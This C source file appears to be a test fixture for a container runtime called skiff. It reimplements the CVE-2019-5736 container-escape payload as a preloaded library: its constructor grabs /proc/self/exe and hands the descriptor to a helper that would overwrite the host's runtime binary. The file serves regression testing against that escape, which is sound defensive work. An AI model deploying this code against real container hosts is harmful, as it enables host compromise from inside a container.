/*
 * The CVE-2019-5736 payload, as the original exploit did it: a library the
 * image preloads (/etc/ld.so.preload) into every dynamic program that runs
 * in the container.  busybox is static, so the only one is whatever
 * "#!/proc/self/exe" made the kernel run: the runtime's own binary, if the
 * process that exec'd the container's program was still the runtime.  The
 * constructor opens /proc/self/exe with O_PATH and hands it to
 * /exe-writer (exe-writer.c), then lets go of the binary.  Not part of
 * skiff: built by tests/integration/attacks-binary.bats.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void grab(void)
{
	char self[256], fd[16];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	int exe = open("/proc/self/exe", O_PATH);
	int log = open("/attack.log", O_WRONLY | O_CREAT | O_APPEND, 0644);

	if (log >= 0) {
		dprintf(log, "ran in %.*s\n", n > 0 ? (int)n : 0, self);
		close(log);
	}
	if (exe < 0)
		_exit(0);
	snprintf(fd, sizeof(fd), "%d", exe);
	if (fork() == 0) {
		setsid();
		execl("/exe-writer", "exe-writer", fd, (char *)NULL);
		_exit(0);
	}
	close(exe);
	/* pid 1 stays a while (its exit would kill the writer with the rest
	 * of the pid namespace) but stops running the binary; a runtime that
	 * waits for it (run, or a program embedding libskiff) lets go of the
	 * binary once it exits. */
	if (getpid() == 1)
		execl("/bin/busybox", "sleep", "5", (char *)NULL);
	_exit(0);
}
